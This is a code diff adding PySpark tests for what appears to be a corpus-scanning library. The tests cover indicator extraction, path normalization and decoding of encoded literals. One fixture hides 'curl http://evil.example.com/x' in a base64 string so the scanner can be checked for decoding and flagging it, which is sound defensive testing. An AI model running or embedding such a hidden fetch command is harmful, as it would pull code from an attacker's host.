@@ -9,7 +9,7 @@ from hypothesis import given, settings, strategies as st
 from pyspark.sql import functions as F
 
 from quillspark.functions import languages, masking, text as tx
-from quillspark.operators import audit, curate, evaluate, evasion, rules, scan
+from quillspark.operators import audit, curate, evaluate, evasion, rules, scan, selection
 from quillspark.plans import history
 from quillspark.sources import archives, samples
 from quillspark.streaming import events
@@ -249,3 +249,35 @@ def test_package_graphs_read_the_texts(spark, tmp_path):
     spark.createDataFrame(rows, "doc_id long, text string, lang string, source string").write.parquet(f"{tmp_path}/documents.parquet")
     names = {(r.type, r.name) for r in graphs._build(spark, str(tmp_path))[0].collect()}
     assert {("function", "told"), ("function", "f1"), ("function", "f2"), ("dangerous_api", "pickle.loads"), ("dependency", "os")} <= names
+
+
+def test_indicator_lines_are_those_of_the_match(spark):
+    text = "ver 21.2.3.4567\nx\nhost 1.2.3.4 and 1.2.3.4\nHTTPS://A.example.com/x, mail a@b.org\n" + "\n".join(f"http://h{k}.example.com/" for k in range(300))
+    df = spark.createDataFrame([(1, text), (2, ""), (3, None)], "id long, text string")
+    got = scan.indicators(df, "id").orderBy("seq").collect()
+    assert len(got) == 120 and {r.id for r in got} == {1}
+    few = scan.indicators(df.withColumn("text", F.substring("text", 1, 90)), "id").collect()
+    assert {(r.kind, r.value, r.line) for r in few if r.kind in ("ip", "email")} == {("ip", "1.2.3.4", 3), ("email", "a@b.org", 4)}
+
+
+def test_decoded_literals(spark):
+    import base64
+
+    hidden = base64.b64encode(b"curl http://evil.example.com/x").decode()
+    texts = [f"a\nb = '{hidden}'", "z = '" + b"just some words".hex() + "'", "0000000000000000000000", base64.b64encode(bytes(range(128, 152))).decode(), None, base64.b64encode(b"short text here.").decode() * 60]
+    df = spark.createDataFrame(list(enumerate(texts)), "id long, text string")
+    got = {(r.id, r.encoding, r.decoded, r.line) for r in scan.decoded_literals(df, "id").collect()}
+    assert got == {(0, "base64", "curl http://evil.example.com/x", 2), (1, "hex", "just some words", 1), (5, "base64", "short text here.", 1)}
+    assert [r.id for r in scan.decoded_indicators(df, "id").collect()] == [0]
+
+
+def test_selection_edges(spark):
+    one = lambda c: spark.range(1).select(c.alias("x")).first().x
+    for raw, want in (("", ""), (None, ""), ("..", ""), ("./a/./b", "a/b"), ("a\\..\\..\\b", "../b"), ("/../a", "a"), ("/", ""), ("a/../..//c", "../c")):
+        assert one(selection.normal_path(F.lit(raw).cast("string"))) == want, raw
+    assert one(selection.is_production(F.lit(""), F.lit("go"))) and not one(selection.is_production(F.lit("Tests/a.py"), F.lit("python")))
+    assert one(selection.without_header_comment(F.lit(" <!-- a\nb --> x <!-- c -->"))) == "x <!-- c -->"
+    assert not one(selection.allowed_url(F.lit("no url"), ("a",))) and not one(selection.allowed_url(F.lit(None).cast("string"), ("a",)))
+    assert one(F.array_join(scan.function_names(F.lit("def a(x):\nfunc b() {\nint main(void) {\npublic static void c(int x) {\ndef a(y)")), ",")) == "a,b,c,main"
+    items = spark.createDataFrame([(1, "rule_only"), (2, "ai_only"), (3, "ai_and_rule"), (4, "ai_only")], "seq long, basis string")
+    assert [r.seq for r in selection.ordered_evidence(items, "seq", 3).orderBy("place").collect()] == [3, 2, 4]
